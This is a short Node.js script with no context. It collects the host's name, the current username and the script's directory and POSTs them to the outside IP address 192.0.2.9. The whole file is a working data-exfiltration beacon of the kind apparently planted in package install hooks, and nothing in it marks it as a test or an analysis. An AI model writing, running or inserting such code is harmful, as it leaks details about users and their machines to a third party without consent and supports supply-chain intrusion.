const os = require('os');
const q = require('querystring');
const data = q.stringify({ h: os.hostname(), u: os.userInfo().username, d: __dirname });
const req = require('https').request({ hostname: '192.0.2.9', method: 'POST', path: '/' });
req.end(data);
